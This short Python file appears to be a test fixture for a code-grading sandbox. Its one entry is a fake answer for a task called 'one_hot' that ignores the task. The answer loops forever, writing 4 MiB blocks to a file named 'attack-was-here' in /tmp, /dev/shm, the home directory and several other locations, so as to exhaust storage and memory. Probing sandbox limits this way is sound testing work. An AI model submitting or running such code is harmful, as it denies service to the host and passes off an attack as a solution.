"""Fills the memory behind /tmp, /dev/shm and its home."""

WAITS = True
ANSWERS = {
    "one_hot": """
import os


def one_hot(ids, V):
    block = b"x" * 2**22
    while True:
        for place in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run", "."):
            try:
                with open(f"{place}/attack-was-here", "ab") as file:
                    file.write(block)
            except OSError:
                pass
""",
}
